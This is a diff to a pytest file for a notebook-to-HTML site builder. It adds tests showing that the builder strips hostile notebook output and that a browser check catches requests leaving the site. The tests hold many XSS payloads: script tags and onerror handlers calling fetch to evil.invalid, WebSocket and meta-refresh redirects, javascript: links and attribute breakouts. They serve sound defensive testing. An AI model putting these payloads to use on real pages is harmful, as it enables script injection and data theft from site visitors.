@@ -11,6 +11,7 @@ import html.parser
 import io
 import json
 import pathlib
+import re
 
 import nbformat
 import pytest
@@ -56,7 +57,9 @@ def write_executed(out):
     one = new_notebook(cells=[
         new_markdown_cell('# 6.1 One\n\nInline $a^2 + b^2 = c^2$ and displayed\n\n$$n - k + 1.$$'),
         new_code_cell('plt.plot([1, 2])', outputs=[image_output()], execution_count=1),
-        new_code_cell('conv_explorer()', outputs=[widget], execution_count=2)])
+        new_code_cell("conv_explorer(settings=ExplorerSettings(n=4, mode='max'))",
+                      outputs=[widget], execution_count=2),
+        new_code_cell('widgets.IntSlider()', outputs=[widget], execution_count=3)])
     one.metadata['widgets'] = {'application/vnd.jupyter.widget-state+json': {'state': {}}}
     two = new_notebook(cells=[new_markdown_cell('# 6.2 Two\n\nNo maths here.'),
                               new_code_cell('print(1)', execution_count=1, outputs=[
@@ -125,7 +128,7 @@ def test_build_site_writes_index_and_one_page_per_notebook(small_site):
     assert [p.name for p in curves] == ['lenet_curves_cell01_1.png']
     assert (site / 'images' / 'lenet_curves_cell01_2.svg').read_text() == SVG
     text = index.read_text()
-    order = [href for cls, href in refs(index).links][:3]
+    order = list(dict.fromkeys(href for cls, href in refs(index).links))[:3]
     assert order == ['6.1-one.html', '6.2-two.html', '6.6-lenet.html']
     assert 'src="images/lenet_curves_cell01_1.png"' in text
     assert 'src="images/lenet_curves_cell01_2.svg"' in text
@@ -137,7 +140,7 @@ def test_summary_table_from_the_runner_or_the_notebook(small_site):
     text = (small_site[1]).read_text()
     rows = text.split('<tr>')[2:]
     assert '>ok<' in rows[0] and '>quick<' in rows[0] and '>1.2<' in rows[0]  # 1.25 s
-    assert 'lenet: loss 0.500' in rows[0]
+    assert "the book&#x27;s LeNet on Fashion-MNIST: loss 0.500" in rows[0]  # words, not keys
     assert '>ok<' in rows[1]
     assert 'class="failed">failed<' in rows[2]  # 6.6's error output, no summary entry
 
@@ -169,12 +172,17 @@ def test_pages_have_navigation_and_mathjax(small_site):
     for page in ('6.1-one.html', '6.2-two.html'):
         loads = refs(site / page).loads
         assert ('script', 'mathjax/tex-svg.js') in loads
+        assert ('script', 'assets/mathjax-config.js') in loads
 
 
 def test_widgets_become_a_note(small_site):
-    """A widget view (it needs a kernel) becomes a note; no widget state or manager is left."""
+    """conv_explorer's view becomes the JavaScript explorer at its settings, another widget a note."""
     text = (small_site[0] / 'site' / '6.1-one.html').read_text()
-    assert 'An interactive widget was here' in text
+    assert text.count('An interactive widget was here') == 1
+    assert text.count('class="d2l-explorer"') == 1
+    assert ('data-settings="{&quot;n&quot;: 4, &quot;k&quot;: 3, &quot;p&quot;: 0, &quot;s&quot;: 1, '
+            '&quot;d&quot;: 1, &quot;mode&quot;: &quot;max&quot;') in text
+    assert ('script', 'assets/explorer.js') in refs(small_site[0] / 'site' / '6.1-one.html').loads
     assert WIDGET not in text and 'widget-state' not in text and 'ConvExplorer(children' not in text
 
 
@@ -232,12 +240,14 @@ def test_browser_check_finds_what_breaks(chromium, tmp_path):
                         '<script src="https://cdn.invalid/mathjax.js"></script>'
                         '<img src="images/missing.png" alt="gone">')
     text = text.replace('href="6.2-two.html"', 'href="6.2-gone.html"')
+    text = re.sub(r'<meta[^>]*Content-Security-Policy[^>]*>', '', text)  # a page without it
     page.write_text(text)
     problems = sitemod.check_site(site, screens=tmp_path / 'screens')
     found = '\n'.join(problems['6.1-one.html'])
-    assert 'request to the network: https://cdn.invalid/mathjax.js' in found
+    assert 'request outside the site: https://cdn.invalid/mathjax.js' in found
     assert 'image with no natural size: file://' in found
-    assert "math left untypeset: ['$a^2 + b^2 = c^2$', '$n - k + 1.$']" in found
+    assert 'math left untypeset: [' in found and '$a^2 + b^2 = c^2$' in found \
+        and '$n - k + 1.$' in found
     assert 'link to a missing file: 6.2-gone.html' in found
     assert 'navigation links' in found
     assert 'console error' in found  # the failed loads
@@ -273,13 +283,310 @@ def test_the_executed_chapter_in_chromium(chromium, quick_run, fashion_dir):
         assert report[f'{path.stem}.html']['equations'] > 0, path.stem
     screens = sorted((index.parent / 'screens').glob('*.png'))
     assert len(screens) == 7 and all(p.read_bytes()[:4] == b'\x89PNG' for p in screens)
-    # The explorer's static figure and the note for its widget are on the 6.3 and 6.5 pages.
+    # The live explorer (where the widget was) and its static figure are on the 6.3 and 6.5
+    # pages, and the explorer on the index; the check saw each of them start.
     for stem in ('6.3-padding-and-stride', '6.5-pooling'):
         text = (index.parent / f'{stem}.html').read_text()
-        assert 'An interactive widget was here' in text
+        assert text.count('class="d2l-explorer"') == 1 and 'An interactive widget' not in text
         assert text.count('<img') >= 3
+        assert report[f'{stem}.html']['explorers'] == 1
+    assert report['index.html']['explorers'] == 1
+    assert 'data-settings="{&quot;n&quot;: 4, &quot;k&quot;: 3, &quot;p&quot;: 1, &quot;s&quot;: 2' \
+        in (index.parent / '6.5-pooling.html').read_text()      # the 6.5 widget's own start
     lenet = next(p for p in find_notebooks() if p.stem.startswith('6.6'))
     cell = next(i for i, c in enumerate(nbformat.read(lenet, as_version=4).cells)
                 if '\nhistory = train_ch5(' in c.source)    # the book LeNet's curves
     assert [p.name for p in (index.parent / 'images').glob('lenet_curves_*')] == [
         f'lenet_curves_cell{cell:02d}_1.png']   # the chapter's figures are PNG, 6.6's too
+
+
+# --- hostile notebooks: the site runs nothing it did not write ------------------------------
+# Each case is an output (or Markdown) that ran a script or reached the network in the site
+# before: the built page must hold no trace of it (`forbidden`), and the browser test below
+# opens all of them at once and sees nothing run and nothing leave the site.
+
+EVIL = 'http://evil.invalid'
+
+
+def html_output(text):
+    return new_output('display_data', data={'text/html': text, 'text/plain': '<obj>'})
+
+
+HOSTILE = {
+    'markdown_onerror': (new_markdown_cell(
+        f'Text <img src="x" onerror="fetch(\'{EVIL}/md-onerror\')"> and <b onmouseover="x()">b</b>'),
+        r'onerror|onmouseover|md-onerror'),
+    'html_script': (html_output(f'<p>table</p><script>fetch("{EVIL}/html-script")</script>'),
+                    r'html-script|<script>fetch'),
+    'javascript_output': (new_output('display_data', data={
+        'application/javascript': f'fetch("{EVIL}/js-output")', 'text/plain': '<js>'}),
+        r'js-output'),
+    'javascript_only_output': (new_output('display_data', data={
+        'application/javascript': f'fetch("{EVIL}/js-only")'}), r'js-only'),
+    'remote_img': (html_output(f'<img src="{EVIL}/img.png" alt="remote"><img srcset="{EVIL}/s.png">'),
+                   r'evil\.invalid'),
+    'remote_css': (html_output(f'<link rel="stylesheet" href="{EVIL}/a.css">'
+                               f'<style>@import url({EVIL}/b.css);</style>'
+                               f'<div style="background:url({EVIL}/c.png)">x</div>'),
+                   r'evil\.invalid|@import'),
+    'iframe': (html_output(f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/o">'
+                           f'</object><embed src="{EVIL}/e">'), r'evil\.invalid|<iframe|<object|<embed'),
+    'delayed_fetch': (html_output(f'<script>setTimeout(() => fetch("{EVIL}/late"), 4000)</script>'),
+                      r'/late'),
+    'webdriver_gated': (html_output(
+        f'<script>if (!navigator.webdriver) fetch("{EVIL}/gated")</script>'), r'gated'),
+    'meta_refresh': (html_output(f'<meta http-equiv="refresh" content="1;url={EVIL}/refresh">'),
+                     r'refresh'),
+    'websocket': (html_output('<script>new WebSocket("ws://evil.invalid/socket")</script>'),
+                  r'WebSocket|socket'),
+    'base': (html_output(f'<base href="{EVIL}/">'), r'<base'),
+    'svg_with_script': (new_output('display_data', data={'image/svg+xml': (
+        '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/svg-onload\')">'
+        f'<script>fetch("{EVIL}/svg-script")</script><image href="{EVIL}/svg.png"/></svg>')}),
+        r'svg-script|svg-onload|<svg'),      # shown only as a data: image, where nothing runs
+    'markdown_output_js_link': (new_output('display_data', data={
+        'text/markdown': '[click](javascript:alert(1)) <script>alert(2)</script>'}),
+        r'javascript:|alert\('),
+    'output_filenames': (new_output('display_data', data={
+        'image/png': base64.b64encode(png_bytes()).decode()},
+        metadata={'filenames': {'image/png': f'{EVIL}/file.png'}}), r'evil\.invalid'),
+    'attribute_breakout': (html_output('<a href="#x" title=\'a" onclick="fetch(1)\'>x</a>'
+                                       '<a href="java&#x09;script:alert(1)">y</a>'),
+                           r'java\s*script:'),   # the title's text stays, inside its attribute
+}
+
+
+class AttributeNames(html.parser.HTMLParser):
+    def __init__(self):
+        super().__init__()
+        self.names = set()
+
+    def handle_starttag(self, tag, attrs):
+        self.names.update(name for name, _ in attrs)
+
+
+def hostile_notebook(cases):
+    """A notebook made for the test: a heading, then each case as a Markdown cell or an output."""
+    cells = [new_markdown_cell('# 6.1 Hostile\n\nMaths stays: $n - k + 1$.')]
+    for i, name in enumerate(cases):
+        item = HOSTILE[name][0]
+        if item.get('cell_type') == 'markdown':
+            cells.append(item)
+        else:
+            cells.append(new_code_cell(f'show({i})', outputs=[item], execution_count=i + 1))
+    return new_notebook(cells=cells)
+
+
+def build_one(out, nb, stem='6.1-hostile'):
+    (out / 'notebooks').mkdir(parents=True)
+    nbformat.write(nb, out / 'notebooks' / f'{stem}.ipynb')
+    return sitemod.build_site(out)
+
+
+@pytest.mark.parametrize('case', sorted(HOSTILE))
+def test_hostile_output_is_left_out_of_the_page(case, tmp_path):
+    """The case's script, handler, remote resource or redirect is not in the page; the CSP is."""
+    site = build_one(tmp_path, hostile_notebook([case])).parent
+    text = (site / '6.1-hostile.html').read_text()
+    body = text.split('<body', 1)[1]
+    found = re.findall(HOSTILE[case][1], body)
+    assert found == [], (case, found)
+    assert re.findall(r'<script[^>]*>', text) == [
+        '<script src="assets/mathjax-config.js">', '<script id="MathJax-script" src="mathjax/tex-svg.js">',
+        '<script src="assets/explorer-data.js">', '<script src="assets/explorer.js">'], case
+    attributes = AttributeNames()
+    attributes.feed(text)
+    assert [a for a in attributes.names if a.startswith('on')] == [], case
+    assert f'content="{sitemod.CSP}" http-equiv="Content-Security-Policy"' in text
+
+
+def test_every_page_carries_the_policy(small_site):
+    """index.html and each page: the CSP before any script, allowing only the site's own files."""
+    for page in (small_site[0] / 'site').glob('*.html'):
+        text = page.read_text()
+        assert text.index('Content-Security-Policy') < text.index('<script'), page.name
+    assert "script-src 'self';" in sitemod.CSP and "img-src 'self' data:;" in sitemod.CSP
+    assert "default-src 'none'" in sitemod.CSP and "base-uri 'none'" in sitemod.CSP
+    assert 'unsafe-eval' not in sitemod.CSP and "script-src 'self' 'unsafe-inline'" not in sitemod.CSP
+
+
+def test_hostile_file_name_is_escaped(tmp_path):
+    """A notebook named to break out of href="..." is linked quoted, in the index and the navigation."""
+    name = '6.6-x" onmouseover="alert(1)" data-x="'
+    (tmp_path / 'notebooks').mkdir()
+    nbformat.write(new_notebook(cells=[new_markdown_cell('# 6.1 One')]),
+                   tmp_path / 'notebooks' / '6.1-one.ipynb')
+    nbformat.write(new_notebook(cells=[new_markdown_cell('# <b>6.6</b> "x"')]),
+                   tmp_path / 'notebooks' / f'{name}.ipynb')
+    site = sitemod.build_site(tmp_path).parent
+    quoted = '6.6-x%22%20onmouseover%3D%22alert%281%29%22%20data-x%3D%22.html'
+    for page in ('index.html', '6.1-one.html', f'{name}.html'):
+        parser = refs(site / page)
+        text = (site / page).read_text()
+        assert 'onmouseover="alert' not in text and ' data-x=' not in text, page
+        hrefs = [href for cls, href in parser.links]
+        assert quoted in hrefs or page == f'{name}.html', (page, hrefs)
+        assert not any('"' in href for href in hrefs)
+    assert '&lt;b&gt;6.6&lt;/b&gt;' in (site / 'index.html').read_text()
+
+
+@pytest.mark.parametrize('content, expected', [
+    ('[]', r'summary\.json must hold an object \{notebook: run\}, got list'),
+    ('"x"', r'must hold an object .* got str'),
+    ('{"6.1-one": []}', r"summary.json entry '6.1-one' must be an object, got list"),
+    ('{"6.1-one": {"seconds": "fast"}}', r"seconds must be int or float or NoneType, got str 'fast'"),
+    ('{"6.1-one": {"results": {"lenet": [1]}}}', r"results\['lenet'\] must be a number or an object"),
+    ('{"6.1-one": ', r'is not valid JSON'),
+])
+def test_damaged_summary_is_a_clear_error(tmp_path, capsys, content, expected):
+    """A summary.json that is not the runner's {stem: entry} is a SiteError naming it, exit 2."""
+    write_executed(tmp_path)
+    (tmp_path / 'notebooks' / SUMMARY_FILE).write_text(content)
+    with pytest.raises(sitemod.SiteError, match=expected):
+        sitemod.build_site(tmp_path)
+    from d2l_ch6.__main__ import main
+    assert main(['site', '--out', str(tmp_path)]) == 2
+    err = capsys.readouterr().err
+    assert err.startswith('d2l-ch6 site: ') and 'summary.json' in err and 'Traceback' not in err
+
+
+def test_equations_broken_across_markdown_lines_are_joined():
+    """A line of an equation that starts with '+' (6.4's) stays in the equation, not a bullet."""
+    source = ('The sum is $(0 \\cdot 0 + 1 \\cdot 1) + (1 \\cdot 2)\n+ (1 \\cdot 1) = 56$.\n\n'
+              '- a real bullet with $x$\n\n`$not\nmath$` and $$a\n+ b$$ and $50 %\ncomment$')
+    out = sitemod.join_math_lines(source)
+    assert '$(0 \\cdot 0 + 1 \\cdot 1) + (1 \\cdot 2) + (1 \\cdot 1) = 56$' in out
+    assert '\n\n- a real bullet with $x$' in out
+    assert '`$not\nmath$`' in out and '$$a + b$$' in out and '$50 %\ncomment$' in out
+    from nbconvert.filters.markdown import markdown2html
+    assert '<li>' not in markdown2html(sitemod.join_math_lines(source.split('\n\n')[0]))
+    assert '<li>' in markdown2html(source.split('\n\n')[0])  # what the page showed before
+
+
+def test_the_index_reads_as_words(tmp_path):
+    """Summaries, key figures, headline results in words and the machine; no metadata keys shown."""
+    out = write_executed(tmp_path)
+    summary = json.loads((out / 'notebooks' / SUMMARY_FILE).read_text())
+    summary['6.6-lenet'] = {'status': 'ok', 'seconds': 80.0, 'quick': False, 'results': {
+        'lenet': {'loss': 0.48, 'train_acc': 0.82, 'test_acc': 0.804},
+        'lenet_improved_mnist': {'loss': 0.05, 'train_acc': 0.99, 'test_acc': 0.987}},
+        'finished': '2026-12-04 10:00:00 UTC', 'error': ''}
+    (out / 'notebooks' / SUMMARY_FILE).write_text(json.dumps(summary))
+    text = sitemod.build_site(out).read_text()
+    assert ('reached a test accuracy of <b>80.4%</b> in this run, inside the book&#x27;s band '
+            'of 70.0%-83.6%') in text.replace("book's", 'book&#x27;s')
+    assert 'recognises <b>98.7%</b> of the MNIST test digits in this run.' in text
+    assert 'finished 2026-12-04 10:00:00 UTC' in text
+    for section in ('Why images need a layer of their own', 'The cross-correlation behind'):
+        assert section in text
+    assert 'src="images/section0_cell01_1.png"' in text   # 6.1's first figure
+    assert 'src="images/section2_cell01_1.png"' in text   # 6.6's: LeNet's curves
+    assert 'The improved LeNet</b> (exercise 6.6.2' in text and 'test accuracy on Fashion-MNIST' in text
+    assert 'recorded by <code>benchmarks/improve_lenet.py</code> on CPU:' in text
+    assert "the machine that built this site: " in text
+    assert 'class="d2l-explorer"' in text
+    visible = re.sub(r'<[^>]+>', ' ', text)
+    for key in ('lenet_improved_mnist', 'train_acc', 'test_acc'):
+        assert key not in visible, key
+
+
+def write_checker_site(folder):
+    """Hand-written pages (no policy, nothing cleaned) that each reach outside in their own way."""
+    site = folder / 'site'
+    site.mkdir(parents=True)
+    page = '<!DOCTYPE html><html><head><title>{t}</title>{head}</head><body>{body}</body></html>'
+    pages = {
+        'index.html': ('', '<a href="6.1-late.html">1</a><a href="6.2-gated.html">2</a>'
+                           '<a href="6.3-socket.html">3</a><a href="6.4-refresh.html">4</a>'
+                           '<a href="6.5-base.html">5</a><a href="6.6-file.html">6</a>'),
+        '6.1-late.html': ('', f'<script>setTimeout(() => fetch("{EVIL}/late"), 4000)</script>'),
+        '6.2-gated.html': ('', f'<script>if (!navigator.webdriver) fetch("{EVIL}/gated")</script>'),
+        '6.3-socket.html': ('', '<script>new WebSocket("ws://evil.invalid/socket")</script>'),
+        '6.4-refresh.html': (f'<meta http-equiv="refresh" content="1;url={EVIL}/refresh">', ''),
+        '6.5-base.html': (f'<base href="{EVIL}/">', '<a class="d2l-contents" href="index.html">c</a>'
+                                                    '<a class="d2l-next" href="6.6-file.html">n</a>'),
+        '6.6-file.html': ('', '<img src="file:///etc/hostname" alt="outside">'),
+    }
+    for name, (head, body) in pages.items():
+        (site / name).write_text(page.format(t=name, head=head, body=body))
+    return site
+
+
+def test_check_catches_what_leaves_the_site(chromium, tmp_path):
+    """Late, webdriver-gated and socket requests, a refresh, <base> and outside files: all reported.
+
+    The check used to miss all but <base>, on which it crashed (TypeError in _check_order).
+    """
+    site = write_checker_site(tmp_path)
+    problems = sitemod.check_site(site, screens=tmp_path / 'screens')
+    text = {name: '\n'.join(found) for name, found in problems.items()}
+    assert f'request outside the site: {EVIL}/late' in text['6.1-late.html']
+    assert f'request outside the site: {EVIL}/gated' in text['6.2-gated.html']
+    assert 'WebSocket outside the site: ws://evil.invalid/socket' in text['6.3-socket.html']
+    assert f'request outside the site: {EVIL}/refresh' in text['6.4-refresh.html']
+    assert f'link leaves the site: index.html' in text['6.5-base.html']
+    assert 'navigation links' in text['6.5-base.html']
+    assert 'request outside the site: file:///etc/hostname' in text['6.6-file.html']
+    assert (tmp_path / 'screens' / 'report.json').is_file()
+
+
+def test_hostile_notebook_runs_nothing_in_chromium(chromium, tmp_path):
+    """Every hostile case on one page: nothing runs, nothing leaves the site, the maths still typesets."""
+    site = build_one(tmp_path, hostile_notebook(sorted(HOSTILE))).parent
+    problems = sitemod.check_site(site, screens=tmp_path / 'screens')
+    assert problems == {'index.html': [], '6.1-hostile.html': []}
+    report = json.loads((tmp_path / 'screens' / 'report.json').read_text())
+    assert report['6.1-hostile.html']['equations'] == 1
+
+
+def test_check_survives_a_page_that_never_returns(chromium, tmp_path, monkeypatch):
+    """A script that loops for ever is that page's problem; the check still ends and reports."""
+    monkeypatch.setattr(sitemod, 'LOAD_TIMEOUT_MS', 4000)
+    site = tmp_path / 'site'
+    site.mkdir()
+    (site / 'index.html').write_text('<!DOCTYPE html><title>i</title><a href="6.1-loop.html">1</a>')
+    (site / '6.1-loop.html').write_text('<!DOCTYPE html><title>l</title>'
+                                        '<script>setTimeout(() => { for (;;) {} }, 500)</script>')
+    problems = sitemod.check_site(site, screens=tmp_path / 'screens', settle=2)
+    assert any('does not respond' in p or 'did not load' in p or 'could not be read' in p
+               for p in problems['6.1-loop.html']), problems
+
+
+@pytest.mark.parametrize('dirty, clean', [
+    ('<p onclick="x()">a</p>', '<p>a</p>'),
+    ('<script>alert(1)</script>b', 'b'),
+    ('<svg><script>alert(1)</script><p>in svg</p></svg>c', 'c'),
+    ('<style>@import url(http://e/x.css);</style>d', 'd'),
+    ('<script>never closed <p>e</p>', ''),
+    ('<a href=" JaVa\tScRiPt:alert(1)">f</a>', '<a>f</a>'),
+    ('<a href="java&#x0A;script:alert(1)">g</a>', '<a>g</a>'),
+    ('<a href="https://d2l.ai">h</a><a href="#x">i</a><a href="6.2-two.html">j</a>',
+     '<a href="https://d2l.ai">h</a><a href="#x">i</a><a href="6.2-two.html">j</a>'),
+    ('<a href="//evil.invalid/x">k</a>', '<a>k</a>'),
+    ('<img src="data:image/png;base64,AAAA" alt="l">', '<img src="data:image/png;base64,AAAA" alt="l">'),
+    ('<img src="data:text/html,<script>x</script>" alt="m">', 'm'),
+    ('<img src="http://evil.invalid/n.png" alt="n">', 'n'),
+    ('<img src="images/o.png">', ''),
+    ('<div style="color: red">p</div>', '<div style="color: red">p</div>'),
+    ('<div style="background: u\\72l(http://e/q.png)">q</div>', '<div>q</div>'),
+    ('<div style="background-image:url(data:image/png;base64,AA)">r</div>', '<div>r</div>'),
+    ('<div id="ok-id" class="jp-x d2l-explorer">s</div>', '<div id="ok-id" class="jp-x">s</div>'),
+    ('<div id="x y" data-settings="{}">t</div>', '<div>t</div>'),
+    ('<base href="http://e/"><meta http-equiv="refresh" content="0;url=http://e"><link rel=x href=y>u',
+     'u'),
+    ('<form action="http://e"><input name=v value=w><button formaction="http://e">x</button></form>',
+     'x'),
+    ('<!-- <script>alert(1)</script> -->y', 'y'),
+    ('<p title=\'a" onclick="z()\'>z</p>', '<p title="a&quot; onclick=&quot;z()">z</p>'),
+    ('<table><tr><td colspan="2" onmouseover="x">1</td></tr></table>',
+     '<table><tr><td colspan="2">1</td></tr></table>'),
+    ('a < b &amp; c', 'a &lt; b &amp; c'),
+])
+def test_clean_html(dirty, clean):
+    """The allow-list, case by case: what runs or loads goes, text and safe markup stay."""
+    assert sitemod.clean_html(dirty) == clean
+
+
+def test_clean_html_bad_argument():
+    with pytest.raises(TypeError, match='fragment must be a str, got bytes'):
+        sitemod.clean_html(b'<p>')
